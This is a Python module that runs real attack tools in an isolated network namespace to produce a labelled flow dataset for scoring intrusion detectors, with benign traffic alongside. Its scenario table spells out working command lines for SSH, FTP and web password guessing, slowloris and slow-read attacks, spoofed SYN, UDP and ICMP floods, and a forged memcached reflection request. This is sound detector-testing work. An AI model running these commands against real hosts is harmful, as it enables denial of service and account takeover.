"""A labelled capture of the real attack tools, made on this machine: ``python -m
detectors.evaluation.toollab --out DIR`` (root; Debian's packages of the tools, ``--check`` names the
missing ones; ``--only LABEL`` runs the scenarios whose label holds it).

No labelled capture of flow-level password guessing or slow denial of service is public beside the
one kept for independent checks, so this makes one. The real tools (hydra, medusa, ncrack, nmap,
slowhttptest, ab, wrk, siege, hping3, patator) attack real servers (OpenSSH, vsftpd, nginx and
Apache httpd as Debian ships them; web logins as a form whose error page nginx serves and as
Apache's HTTP Basic authentication) in a network namespace, beside benign look-alikes (health checks,
monitoring probes, a backup job over ssh, a browser's parallel page loads, downloads, a long
interactive ssh session). tcpdump records the veth between the two namespaces; two real exporters
make the flow records from the same packets:

  lab.pcap --argus (its shipped 5 s status interval)--> ra -c , ...  -> argus.csv   (--format argus)
           --softflowd (NetFlow v9, defaults)--> nfcapd -> nfdump -o csv -> netflow.csv (--format nfdump)

Each scenario has its own pair of addresses (the attacker or client in 10.77.0.0/24 on the host
side, the victim's address in 10.77.1.0/24 inside the namespace, a route with ``src`` picks the
client's), so a flow's label is its pair's scenario's, whichever way the record reads; flows of no
scenario are ``background``. Score either file with ``ssa evaluate --capture FILE --format FORMAT
--cidr 10.77.1.0/24``: the victims are the monitored tenant, the clients outside it.

What the loopback cannot give: round trips are microseconds, not milliseconds, so the tools run at
their own pace against the servers' own limits (sshd's MaxStartups and failure delay, nginx's
header timeout), faster than across a network where a tool waits on replies.
"""

from __future__ import annotations

import argparse
import csv
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from dataclasses import asdict, dataclass, replace
from pathlib import Path
from typing import IO, Final

__all__ = ["SCENARIOS", "Scenario", "label_rows", "main", "missing_tools"]

NS: Final = "ssa-toollab"
HOST_IF: Final = "ssa-lab0"
NS_IF: Final = "ssa-lab1"
CLIENT_NET: Final = "10.77.0"
VICTIM_NET: Final = "10.77.1"
BACKGROUND: Final = "background"
_EXPORT_BUFFER: Final = 64 * 1024 * 1024  # nfcapd's socket buffer: a whole lab's NetFlow export (~10 MB)
TOOLS: Final = {  # command -> Debian package
    "hydra": "hydra",
    "medusa": "medusa",
    "ncrack": "ncrack",
    "patator": "patator",
    "nmap": "nmap",
    "slowhttptest": "slowhttptest",
    "ab": "apache2-utils",
    "htpasswd": "apache2-utils",
    "wrk": "wrk",
    "siege": "siege",
    "hping3": "hping3",
    "/usr/bin/memcached": "memcached",
    "curl": "curl",
    "nc": "netcat-openbsd",
    "ssh": "openssh-client",
    "ssh-keygen": "openssh-client",
    "/usr/sbin/sshd": "openssh-server",
    "/usr/sbin/vsftpd": "vsftpd",
    "/usr/sbin/nginx": "nginx-light",
    "/usr/sbin/apache2": "apache2",
    "tcpdump": "tcpdump",
    "argus": "argus-server",
    "ra": "argus-client",
    "softflowd": "softflowd",
    "nfcapd": "nfdump",
    "nfdump": "nfdump",
    "ip": "iproute2",
}


@dataclass(frozen=True)
class Scenario:
    """One tool run (``every_s`` 0) or a benign job repeated every ``every_s`` seconds, from
    ``CLIENT_NET.host`` to ``VICTIM_NET.host``, ``start_s`` after the capture starts, stopped
    after ``duration_s``; ``apache``: the victim's web server is Apache's, else nginx's.
    ``{src}``, ``{dst}`` and ``{dir}`` in the command are the client's and the victim's
    addresses and the lab's folder (hping3 and nmap's raw packets name their source themselves)."""

    label: str
    host: int
    command: tuple[str, ...]
    start_s: int
    duration_s: int
    every_s: int = 0
    why: str = ""
    apache: bool = False  # the victim's web server is Apache httpd (Debian's settings), not nginx
    # Random source addresses (hping3 --rand-source): every record with the victim's address is this
    # scenario's. The namespace routes only the client network, so no answer leaves for them.
    spoofed: bool = False

    @property
    def src(self) -> str:
        return f"{CLIENT_NET}.{self.host}"

    @property
    def dst(self) -> str:
        return f"{VICTIM_NET}.{self.host}"


_SSH_OPTS: Final = (
    "-o",
    "StrictHostKeyChecking=no",
    "-o",
    "UserKnownHostsFile=/dev/null",
    "-o",
    "BatchMode=yes",
)
_SSH: Final = ("ssh", "-i", "{dir}/id_lab", *_SSH_OPTS, "root@{dst}")

# The guessers run at once for 21 minutes: a 10-minute window's bar needs one whole window, which
# 21 minutes hold wherever the clock stands (hydra's 11-minute run fell 37 and 24 sessions into
# two). The other attacks run one or two at a time, the keep-alive floods last (wrk takes the CPU
# it can), the benign jobs throughout.
_GUESS: Final = 1260
_END: Final = 1410
# memcached's UDP frame (request id 1, datagram 0 of 1, reserved) and a "get" of the lab's 100 kB value
MEMCACHED_GET: Final = b"\x00\x01\x00\x00\x00\x01\x00\x00get big\r\n"
MEMCACHED_VALUE_BYTES: Final = 100_000
_PAGE: Final = ("", "a.css", "b.js", "c.png", "d.png", "e.png")
_BROWSE: Final = (
    "curl",
    "-s",
    "--no-progress-meter",
    "--parallel",
    "--parallel-max",
    "6",
    *("-o", "/dev/null") * len(_PAGE),
    *(f"http://{{dst}}/{name}" for name in _PAGE),
)
SCENARIOS: Final[tuple[Scenario, ...]] = (
    Scenario("SSH password guessing hydra", 11,
             ("hydra", "-l", "root", "-P", "{dir}/words.txt", "-t", "4", "-I", "ssh://{dst}"), 30, _GUESS,
             why="hydra's advice for ssh: -t 4"),
    Scenario("SSH password guessing medusa", 12,
             ("medusa", "-h", "{dst}", "-u", "admin", "-P", "{dir}/words.txt", "-M", "ssh", "-t", "4"), 30, _GUESS),
    Scenario("SSH password guessing ncrack", 13,
             ("ncrack", "-p", "ssh:22", "--user", "root", "-P", "{dir}/words.txt", "{dst}"), 30, _GUESS),
    Scenario("SSH password guessing patator", 15,
             ("patator", "ssh_login", "host={dst}", "user=root", "password=FILE0", "0={dir}/words.txt"), 30, _GUESS,
             why="patator's defaults: 10 threads, each trying passwords on one connection until sshd drops it"),
    Scenario("FTP password guessing patator", 16,
             ("patator", "ftp_login", "host={dst}", "user=admin", "password=FILE0", "0={dir}/words.txt"), 30, _GUESS,
             why="patator's defaults: 10 threads, persistent connections"),
    Scenario("FTP password guessing hydra", 14,
             ("hydra", "-l", "admin", "-P", "{dir}/words.txt", "-t", "16", "-I", "ftp://{dst}"), 30, _GUESS,
             why="hydra's default 16 tasks"),
    Scenario("DoS slowloris slowhttptest", 21,
             ("slowhttptest", "-H", "-c", "300", "-r", "50", "-i", "10", "-l", "240", "-u", "http://{dst}/"),
             30, 250, why="slow headers (-H), a header line every 10 s; nginx cuts each at 60 s"),
    Scenario("DoS slow body slowhttptest", 22,
             ("slowhttptest", "-B", "-c", "300", "-r", "50", "-i", "10", "-s", "8192", "-l", "240",
              "-u", "http://{dst}/form"), 150, 250,
             why="R.U.D.Y.'s slow POST body (-B) to a form nginx reads before passing it on"),
    Scenario("DoS slow read slowhttptest", 23,
             ("slowhttptest", "-X", "-c", "300", "-r", "50", "-w", "10", "-y", "20", "-n", "5", "-z", "32",
              "-l", "240", "-u", "http://{dst}/big.bin"), 420, 250, why="slow read of a large reply (-X)"),
    Scenario("PortScan nmap SYN", 41,
             ("nmap", "-n", "-sS", "-S", "{src}", "-e", HOST_IF, "-T4", "-Pn", "-p", "1-2000", "{dst}"), 420, 120),
    Scenario("PortScan nmap connect", 42, ("nmap", "-n", "-sT", "-T3", "-Pn", "--top-ports", "1000", "{dst}"),
             480, 120),
    Scenario("DoS HTTP flood ab", 31, ("ab", "-n", "500", "-c", "50", "http://{dst}/"), 700, 60, 1,
             why="one source, 500 requests a second, 50 at once, a new connection each (no -k)"),
    Scenario("DoS SYN flood hping3", 32,
             ("hping3", "-S", "-a", "{src}", "-p", "80", "-i", "u500", "-c", "40000", "{dst}"), 780, 40,
             why="2,000 SYNs a second, the source port counting up"),
    # Datagram floods of a minute, 2,000 packets a second: UDP with Mirai's default payload of 512 bytes
    # at a closed port (its answers: ICMP unreachables, rate-limited), and ICMP echo, each answered.
    Scenario("DoS UDP flood hping3", 38,
             ("hping3", "--udp", "-a", "{src}", "-p", "9", "-d", "512", "-i", "u500", "-c", "120000", "{dst}"),
             1300, 70, why="2,000 datagrams of 512 bytes a second at a closed port for a minute"),
    Scenario("DoS ICMP flood hping3", 39,
             ("hping3", "--icmp", "-a", "{src}", "-d", "56", "-i", "u500", "-c", "120000", "{dst}"), 1300, 70,
             why="2,000 echo requests a second for a minute, each answered"),
    Scenario("DDoS SYN flood hping3 random sources", 40,
             ("hping3", "-S", "--rand-source", "-p", "80", "-i", "u300", "-c", "300000", "{dst}"), 1300, 100,
             why="3,300 SYNs a second for 90 s, each from a random address, as a botnet's or a spoofer's",
             spoofed=True),
    # A tenant's memcached answering UDP (as before 1.5.6 by default), abused as in the 2018 floods:
    # forged "get" requests naming the client's address, each answered with a 100 kB value.
    Scenario("DoS memcached reflection hping3", 44,
             ("hping3", "--udp", "-a", "{src}", "-s", "40000", "-k", "-p", "11211", "-E",
              "{dir}/memcached_get.bin", "-d", str(len(MEMCACHED_GET)), "-i", "u100000", "-c", "600", "{dst}"),
             1300, 70, why="10 forged requests a second for a minute, each answered with 73 datagrams"),
    Scenario("DoS HTTP keep-alive flood wrk", 33, ("wrk", "-t", "2", "-c", "50", "-d", "60s", "http://{dst}/"), 840, 70,
             why="50 keep-alive connections, each a request as soon as the last is answered"),
    Scenario("DoS HTTP keep-alive flood siege", 34,
             ("siege", "--rc={dir}/etc/siegerc", "-c", "50", "-d", "0.5", "-t", "60S", "http://{dst}/"), 930, 70,
             why="50 keep-alive users, each a request every 0-0.5 s: ~200 a second"),
    # The same kinds against Apache httpd with Debian's settings (mod_reqtimeout cuts a request's
    # headers at 20-40 s, 150 workers, 100 requests a keep-alive connection).
    Scenario("DoS slowloris slowhttptest apache", 24,
             ("slowhttptest", "-H", "-c", "300", "-r", "50", "-i", "10", "-l", "240", "-u", "http://{dst}/"),
             280, 250, apache=True),
    Scenario("DoS slow read slowhttptest apache", 26,
             ("slowhttptest", "-X", "-c", "300", "-r", "50", "-w", "10", "-y", "20", "-n", "5", "-z", "32",
              "-l", "240", "-u", "http://{dst}/big.bin"), 560, 250, apache=True),
    Scenario("DoS HTTP flood ab apache", 36, ("ab", "-n", "500", "-c", "50", "http://{dst}/"), 1010, 60, 1,
             apache=True),
    Scenario("DoS HTTP keep-alive flood siege apache", 35,
             ("siege", "--rc={dir}/etc/siegerc", "-c", "50", "-d", "0.5", "-t", "60S", "http://{dst}/"), 1080, 70,
             why="Apache closes a keep-alive connection after 100 requests: ~2 new connections a second",
             apache=True),
    # A flood that works: one request per connection against a page that costs the server 4 s
    # (/slow, a CGI script), 500 at once against Apache's 150 workers, so a connection waits its
    # turn for ~10-15 s before its answer, as Hulk's or GoldenEye's do against a server they
    # saturate (GoldenEye closes its 500 connections only once every one was answered).
    Scenario("DoS HTTP flood ab saturating a slow page apache", 37,
             ("ab", "-t", "60", "-n", "100000", "-c", "500", "-s", "60", "http://{dst}/slow"), 1180, 80,
             why="500 connections at once, a new one as each is answered: ~37 a second", apache=True),
    # Web logins guessed, as the tools do it by default: a login form that always fails, with one
    # error page (nginx answers it itself, as fast as a page can be), and HTTP Basic authentication
    # against Apache checking a bcrypt htpasswd entry (htpasswd -B) on every try.
    Scenario("HTTP password guessing hydra form", 61,
             ("hydra", "-l", "admin", "-P", "{dir}/words.txt", "-t", "16", "-I", "{dst}", "http-post-form",
              "/login:user=^USER^&pass=^PASS^:F=Login failed"), 30, _GUESS,
             why="hydra's 16 tasks; each try fetches the form for a cookie, then posts it"),
    Scenario("HTTP password guessing patator form", 62,
             ("patator", "http_fuzz", "url=http://{dst}/login", "method=POST", "body=user=admin&pass=FILE0",
              "resolve={dst}:{dst}", "0={dir}/words.txt"), 30, _GUESS,
             why="patator's defaults: 10 threads, each on one persistent (keep-alive) connection; resolve= "
                 "given, as Debian's patator 0.9 passes an empty CURLOPT_RESOLVE that its libcurl refuses"),
    Scenario("HTTP password guessing hydra basic auth apache", 63,
             ("hydra", "-l", "admin", "-P", "{dir}/words.txt", "-t", "16", "-I", "http-get://{dst}/private/"),
             30, _GUESS, apache=True, why="hydra's 16 tasks against mod_auth_basic"),
    # Benign look-alikes, for the whole capture.
    Scenario("benign health check", 51, ("curl", "-s", "-o", "/dev/null", "http://{dst}/health"), 0, _END, 5,
             why="a load balancer's check every 5 s"),
    Scenario("benign ssh monitoring probe", 52, ("nc", "-z", "-w", "3", "{dst}", "22"), 0, _END, 30,
             why="a TCP check of port 22 every 30 s"),
    Scenario("benign backup over ssh", 53, (*_SSH, "cat {dir}/www/big.bin"), 0, _END, 60,
             why="a key login copying a file every minute"),
    Scenario("benign browsing", 54,
             _BROWSE, 0, _END, 15,
             why="a page and five assets over 6 parallel connections every 15 s"),
    Scenario("benign browsing apache", 57,
             _BROWSE, 0, _END, 15, apache=True),
    Scenario("benign download", 55, ("curl", "-s", "-o", "/dev/null", "http://{dst}/big.bin"), 0, _END, 120),
    Scenario("benign interactive ssh", 56,
             (*_SSH, "for i in $(seq 1 100); do date; sleep 10; done"), 0, _END, 0,
             why="one long session printing a line every 10 s"),
)  # fmt: skip


_MEMCACHED: Final = next(sc for sc in SCENARIOS if sc.label == "DoS memcached reflection hping3")


def missing_tools(which: Callable[[str], str | None] = shutil.which) -> list[str]:
    """The Debian packages whose commands are not on this machine."""
    return sorted({pkg for cmd, pkg in TOOLS.items() if which(cmd) is None})


def label_rows(
    rows: Iterator[list[str]], src_col: str, dst_col: str, labels: dict[frozenset[str], str]
) -> Iterator[list[str]]:
    """A flow table's rows (header first) with a ``Label`` column: the scenario of the record's
    address pair in either order, or of one of its addresses alone (a spoofed scenario's victim),
    else ``background``."""
    header = next(rows)
    s, d = header.index(src_col), header.index(dst_col)
    yield [*header, "Label"]
    for row in rows:
        if len(row) != len(header):
            yield row  # not a record (nfdump's summary lines): left as the exporter wrote it
            continue
        src, dst = row[s].strip(), row[d].strip()
        label = (
            labels.get(frozenset((src, dst)))
            or labels.get(frozenset((dst,)))
            or labels.get(frozenset((src,)))
        )
        yield [*row, label or BACKGROUND]


def scenario_labels(scenarios: Sequence[Scenario] = SCENARIOS) -> dict[frozenset[str], str]:
    """Each scenario's address pair, and a spoofed scenario's victim address alone."""
    pairs = {frozenset((sc.src, sc.dst)): sc.label for sc in scenarios}
    return pairs | {frozenset((sc.dst,)): sc.label for sc in scenarios if sc.spoofed}


# --- the lab (root) --------------------------------------------------------------------------------
def _run(*cmd: str, ns: bool = False, check: bool = True) -> subprocess.CompletedProcess[str]:
    full = ["ip", "netns", "exec", NS, *cmd] if ns else list(cmd)
    return subprocess.run(full, check=check, capture_output=True, text=True)


def _write_configs(lab: Path) -> None:
    etc, www = lab / "etc", lab / "www"
    etc.mkdir(parents=True, exist_ok=True)
    www.mkdir(parents=True, exist_ok=True)
    (www / "index.html").write_text("<html><body>lab</body></html>\n" * 200)
    (www / "health").write_text("ok\n")
    for name, size in (
        ("a.css", 12_000),
        ("b.js", 90_000),
        ("c.png", 30_000),
        ("d.png", 45_000),
        ("e.png", 8_000),
    ):
        (www / name).write_bytes(os.urandom(size))
    (www / "big.bin").write_bytes(os.urandom(4_000_000))
    words = [f"pass{i:05d}" for i in range(20_000)]  # more than any guesser tries in its slot
    (lab / "words.txt").write_text("\n".join(words) + "\n")
    for key in ("id_lab", "ssh_host_ed25519_key"):
        if not (lab / key).exists():
            _run("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(lab / key))
    (lab / "authorized_keys").write_text((lab / "id_lab.pub").read_text())
    (etc / "sshd_config").write_text(
        f"Port 22\nHostKey {lab}/ssh_host_ed25519_key\n"
        f"AuthorizedKeysFile {lab}/authorized_keys\nStrictModes no\nPermitRootLogin prohibit-password\n"
        "PasswordAuthentication yes\nKbdInteractiveAuthentication no\nUsePAM yes\n"
    )
    Path("/run/sshd").mkdir(exist_ok=True)
    Path("/var/run/vsftpd/empty").mkdir(parents=True, exist_ok=True)
    (etc / "vsftpd.conf").write_text(
        "listen=YES\nlisten_ipv6=NO\nbackground=NO\nanonymous_enable=NO\nlocal_enable=YES\n"
        "pam_service_name=vsftpd\nsecure_chroot_dir=/var/run/vsftpd/empty\nmax_clients=200\nmax_per_ip=50\n"
    )
    slow = etc / "slow.cgi"  # a page that costs the server 4 s (Apache's /slow)
    slow.write_text('#!/bin/sh\nsleep 4\nprintf "Content-Type: text/html\\r\\n\\r\\n<html>done</html>\\n"\n')
    slow.chmod(0o755)
    (www / "private").mkdir(exist_ok=True)
    (www / "private" / "index.html").write_text("<html><body>private</body></html>\n")
    _run("htpasswd", "-bBc", str(etc / "htpasswd"), "admin", os.urandom(12).hex())  # never guessed
    (etc / "siegerc").write_text("connection = keep-alive\nlogging = false\nprotocol = HTTP/1.1\n")
    nginx_listen = "".join(f"listen {sc.dst}:80; " for sc in SCENARIOS if not sc.apache)
    # /form: nginx reads a request's whole body before it passes it on (nothing listens upstream)
    (etc / "nginx.conf").write_text(
        f"worker_processes 1;\npid {lab}/nginx.pid;\nerror_log {lab}/nginx.err;\n"
        "events { worker_connections 4096; }\n"
        f"http {{ access_log off; client_body_temp_path {lab}/nginx_body;\n"
        f"  server {{ {nginx_listen}root {www}; location / {{ }}\n"
        "    location /form { proxy_pass http://127.0.0.1:9; }\n"
        "    location = /login { default_type text/html;\n"
        '      return 200 "<html><body><form method=post>Login failed: wrong user name or password'
        '</form></body></html>"; } } }\n'
    )
    (etc / "apache2.conf").write_text(_apache_conf(lab, www))


def _apache_conf(lab: Path, www: Path) -> str:
    """Apache httpd as Debian ships it (apache2.conf, mpm_event.conf, reqtimeout.conf), serving www
    on the addresses of the scenarios marked ``apache``."""
    modules = "/usr/lib/apache2/modules"
    loads = "".join(
        f"LoadModule {name}_module {modules}/mod_{name}.so\n"
        for name in (
            "mpm_event",
            "authz_core",
            "dir",
            "mime",
            "reqtimeout",
            "auth_basic",
            "authn_core",
            "authn_file",
            "authz_user",
            "alias",
            "cgid",
        )
    )
    listen = "".join(f"Listen {sc.dst}:80\n" for sc in SCENARIOS if sc.apache)
    return (
        f"{loads}{listen}ServerName lab\nUser www-data\nGroup www-data\n"
        f"PidFile {lab}/apache2.pid\nErrorLog {lab}/apache2.err\nDefaultRuntimeDir {lab}\nMutex file:{lab}\n"
        f"TypesConfig /etc/mime.types\nDocumentRoot {www}\n<Directory {www}>\nRequire all granted\n</Directory>\n"
        "Timeout 300\nKeepAlive On\nMaxKeepAliveRequests 100\nKeepAliveTimeout 5\n"
        "StartServers 2\nMinSpareThreads 25\nMaxSpareThreads 75\nThreadLimit 64\nThreadsPerChild 25\n"
        "MaxRequestWorkers 150\nMaxConnectionsPerChild 0\n"
        "RequestReadTimeout header=20-40,minrate=500\nRequestReadTimeout body=10,minrate=500\n"
        f"ScriptSock {lab}/cgid.sock\nScriptAlias /slow {lab}/etc/slow.cgi\n"
        f"<Location /private>\nAuthType Basic\nAuthName lab\nAuthUserFile {lab}/etc/htpasswd\n"
        "Require valid-user\n</Location>\n"
    )


@contextmanager
def _namespace() -> Iterator[None]:
    _run("ip", "netns", "del", NS, check=False)
    _run("ip", "link", "del", HOST_IF, check=False)
    _run("ip", "netns", "add", NS)
    try:
        _run("ip", "link", "add", HOST_IF, "type", "veth", "peer", "name", NS_IF)
        _run("ip", "link", "set", NS_IF, "netns", NS)
        _run("ip", "link", "set", HOST_IF, "up")
        _run("ip", "link", "set", "lo", "up", ns=True)
        _run("ip", "link", "set", NS_IF, "up", ns=True)
        hosts = sorted({sc.host for sc in SCENARIOS})
        for h in hosts:
            _run("ip", "addr", "add", f"{CLIENT_NET}.{h}/32", "dev", HOST_IF)
            _run("ip", "addr", "add", f"{VICTIM_NET}.{h}/32", "dev", NS_IF, ns=True)
        for h in hosts:  # each victim address reached from its own client address
            _run("ip", "route", "add", f"{VICTIM_NET}.{h}/32", "dev", HOST_IF, "src", f"{CLIENT_NET}.{h}")
        _run("ip", "route", "add", f"{CLIENT_NET}.0/24", "dev", NS_IF, ns=True)
        yield
    finally:
        # What the servers left behind (an ssh session's shell outlives its sshd) goes too.
        for pid in _run("ip", "netns", "pids", NS, check=False).stdout.split():
            _run("kill", "-9", pid, check=False)
        _run("ip", "link", "del", HOST_IF, check=False)
        _run("ip", "netns", "del", NS, check=False)


def _start_servers(lab: Path) -> list[subprocess.Popen[bytes]]:
    etc = lab / "etc"
    (lab / "nginx_body").mkdir(exist_ok=True)
    # Each victim its own sshd, as each is its own server in life: one guesser filling sshd's
    # MaxStartups (10:30:100) must not make another give up.
    sshd = (
        ["/usr/sbin/sshd", "-D", "-f", str(etc / "sshd_config"), "-o", f"ListenAddress={sc.dst}",
         "-o", f"PidFile={lab}/sshd-{sc.host}.pid"]
        for sc in SCENARIOS
    )  # fmt: skip
    # memcached with UDP on (-U), as before 1.5.6, on the reflection scenario's address alone
    memcached = ["/usr/bin/memcached", "-u", "nobody", "-m", "64", "-p", "11211", "-U", "11211",
                 "-l", _MEMCACHED.dst]  # fmt: skip
    cmds = (
        *sshd,
        ["/usr/sbin/vsftpd", str(etc / "vsftpd.conf")],
        ["/usr/sbin/nginx", "-c", str(etc / "nginx.conf"), "-g", "daemon off;"],
        ["/usr/sbin/apache2", "-f", str(etc / "apache2.conf"), "-DFOREGROUND"],
        memcached,
    )
    procs = []
    for cmd in cmds:
        log = open(lab / f"{Path(cmd[0]).name}.log", "ab")  # noqa: SIM115 - kept open while it runs
        procs.append(subprocess.Popen(["ip", "netns", "exec", NS, *cmd], stdout=log, stderr=log))
    time.sleep(2)
    for p, cmd in zip(procs, cmds, strict=True):
        if p.poll() is not None:
            raise SystemExit(f"toollab: {cmd[0]} stopped at once (see {lab}/{Path(cmd[0]).name}.log)")
    _seed_memcached(lab)
    return procs


def _seed_memcached(lab: Path) -> None:
    """The value the reflection scenario's forged requests ask for, set over TCP as a cache's user
    would, and the request hping3 sends."""
    (lab / "memcached_get.bin").write_bytes(MEMCACHED_GET)
    value = b"v" * MEMCACHED_VALUE_BYTES
    try:
        with socket.create_connection((_MEMCACHED.dst, 11211), timeout=5) as conn:
            conn.sendall(b"set big 0 0 %d\r\n%s\r\n" % (len(value), value))
            stored = conn.recv(64).startswith(b"STORED")
    except OSError as exc:
        raise SystemExit(
            f"toollab: memcached at {_MEMCACHED.dst}:11211 did not answer ({exc}); see {lab}/memcached.log"
        ) from None
    if not stored:
        raise SystemExit("toollab: memcached did not store the reflection scenario's value")


def _scenario_thread(sc: Scenario, lab: Path, t0: float, record: list[dict[str, object]]) -> None:
    cmd = [part.format(src=sc.src, dst=sc.dst, dir=lab) for part in sc.command]
    time.sleep(max(0.0, t0 + sc.start_s - time.time()))
    end = t0 + sc.start_s + sc.duration_s
    runs = 0
    first = time.time()
    with open(lab / "tools.log", "ab") as log:
        while time.time() < end:
            started = time.time()
            _run_for(cmd, max(1.0, end - started), log, lab)
            runs += 1
            if not sc.every_s:
                break
            time.sleep(max(0.0, started + sc.every_s - time.time()))
    record.append(
        {**asdict(sc), "src": sc.src, "dst": sc.dst, "started": first, "ended": time.time(), "runs": runs}
    )


def _run_for(cmd: list[str], seconds: float, log: IO[bytes], cwd: Path) -> None:
    """Run a tool until it ends or ``seconds`` pass. Its stdin is a pipe left open and empty:
    patator reads its console from stdin, and at end of file prints its progress without pause.
    The tool gets a process group of its own, killed whole at the time: hydra forks a child per
    task, and killing the parent alone left its 16 children behind."""
    proc = subprocess.Popen(
        cmd, stdin=subprocess.PIPE, stdout=log, stderr=log, cwd=cwd, start_new_session=True
    )
    try:
        proc.wait(timeout=seconds)
    except subprocess.TimeoutExpired:
        os.killpg(proc.pid, signal.SIGKILL)
        proc.wait()
    finally:
        if proc.stdin is not None:
            proc.stdin.close()


def selected(only: Sequence[str] = ()) -> list[Scenario]:
    """The scenarios whose label holds one of ``only`` (all when empty), the first starting at 0."""
    chosen = [sc for sc in SCENARIOS if not only or any(o.casefold() in sc.label.casefold() for o in only)]
    shift = min((sc.start_s for sc in chosen), default=0)
    return [replace(sc, start_s=sc.start_s - shift) for sc in chosen]


def capture(lab: Path, scale: float = 1.0, only: Sequence[str] = ()) -> Path:
    """Run the scenarios (times multiplied by ``scale``) and record the veth: ``lab/lab.pcap``."""
    _write_configs(lab)
    scenarios = [
        replace(sc, start_s=int(sc.start_s * scale), duration_s=max(5, int(sc.duration_s * scale)))
        for sc in selected(only)
    ]
    if not scenarios:
        raise SystemExit(f"toollab: no scenario's label holds {' or '.join(only)}")
    pcap = lab / "lab.pcap"
    with _namespace():
        servers = _start_servers(lab)
        dump = subprocess.Popen(
            ["tcpdump", "-i", HOST_IF, "-s", "160", "-U", "-w", str(pcap), "ip"],
            stdout=subprocess.DEVNULL,
            stderr=open(lab / "tcpdump.log", "wb"),  # noqa: SIM115
        )
        time.sleep(2)
        record: list[dict[str, object]] = []
        t0 = time.time()
        threads = [threading.Thread(target=_scenario_thread, args=(sc, lab, t0, record)) for sc in scenarios]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        time.sleep(3)
        dump.send_signal(signal.SIGINT)
        dump.wait(timeout=30)
        for p in servers:
            p.terminate()
        for p in servers:
            p.wait(timeout=30)
    (lab / "scenarios.json").write_text(json.dumps(sorted(record, key=lambda r: str(r["label"])), indent=1))
    return pcap


def argus_flows(lab: Path) -> Path:
    """lab.pcap -> Argus's records (its shipped configuration) -> ``ra -c ,`` -> argus.csv, labelled."""
    raw = lab / "lab.argus"
    raw.unlink(missing_ok=True)
    _run("argus", "-F", "/etc/argus.conf", "-r", str(lab / "lab.pcap"), "-w", str(raw))
    fields: tuple[str, ...] = ("stime", "dur", "proto", "saddr", "sport", "dir", "daddr", "dport")
    fields += ("state", "spkts", "dpkts", "sbytes", "dbytes")
    out = _run("ra", "-r", str(raw), "-n", "-u", "-Z", "b", "-c", ",", "-s", *fields)
    rows = csv.reader(out.stdout.splitlines())
    path = lab / "argus.csv"
    with open(path, "w", newline="") as f:
        csv.writer(f).writerows(label_rows(rows, "SrcAddr", "DstAddr", scenario_labels()))
    return path


def netflow_flows(lab: Path) -> Path:
    """lab.pcap -> softflowd (NetFlow v9) -> nfcapd -> ``nfdump -o csv`` -> netflow.csv, labelled."""
    store = lab / "nfcap"
    shutil.rmtree(store, ignore_errors=True)
    store.mkdir()
    # softflowd reads the pcap as fast as it can and sends over UDP: without room for the whole
    # export in nfcapd's socket buffer, records are lost (95,502 of 98,484 flows once).
    rmem_max = Path("/proc/sys/net/core/rmem_max")
    if int(rmem_max.read_text()) < _EXPORT_BUFFER:
        rmem_max.write_text(str(_EXPORT_BUFFER))
    collector = subprocess.Popen(
        ["nfcapd", "-p", "19995", "-B", str(_EXPORT_BUFFER), "-l", str(store)],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        time.sleep(1)
        _run("softflowd", "-r", str(lab / "lab.pcap"), "-n", "127.0.0.1:19995", "-v", "9", "-a", "-d")
        time.sleep(2)
    finally:
        collector.send_signal(signal.SIGTERM)
        collector.wait(timeout=30)
    out = _run("nfdump", "-R", str(store), "-o", "csv")
    path = lab / "netflow.csv"
    with open(path, "w", newline="") as f:
        csv.writer(f).writerows(
            label_rows(csv.reader(out.stdout.splitlines()), "sa", "da", scenario_labels())
        )
    return path


def main(argv: Sequence[str] | None = None) -> int:
    ap = argparse.ArgumentParser(
        prog="python -m detectors.evaluation.toollab", description=__doc__.split("\n\n")[0]
    )
    ap.add_argument("--out", help="the lab's folder (pcap, flow files, scenarios.json)")
    ap.add_argument("--check", action="store_true", help="only say which Debian packages are missing")
    ap.add_argument("--flows-only", action="store_true", help="make the flow files again from OUT/lab.pcap")
    ap.add_argument(
        "--scale", type=float, default=1.0, help="multiply every start and duration (a short trial)"
    )
    ap.add_argument("--only", action="append", default=[], help="run the scenarios whose label holds this")
    args = ap.parse_args(argv)
    missing = missing_tools()
    if missing or args.check:
        if missing:
            print(f"toollab: missing: apt-get install {' '.join(missing)}", file=sys.stderr)
            return 2
        print("toollab: every tool is here")
        return 0
    if args.out is None:
        ap.error("--out is required (the lab's folder)")
    if os.geteuid() != 0:
        print("toollab: needs root (a network namespace, tcpdump, the servers)", file=sys.stderr)
        return 2
    lab = Path(args.out).resolve()
    lab.mkdir(parents=True, exist_ok=True)
    if args.flows_only and not (lab / "lab.pcap").is_file():
        print(f"toollab: no {lab}/lab.pcap to make flows from: run it without --flows-only", file=sys.stderr)
        return 2
    try:
        if not args.flows_only:
            capture(lab, args.scale, args.only)
        print(argus_flows(lab))
        print(netflow_flows(lab))
    except subprocess.CalledProcessError as exc:
        said = (exc.stderr or "").strip().splitlines()
        print(
            f"toollab: {' '.join(exc.cmd)} failed ({exc.returncode}): {said[-1] if said else ''}",
            file=sys.stderr,
        )
        return 1
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
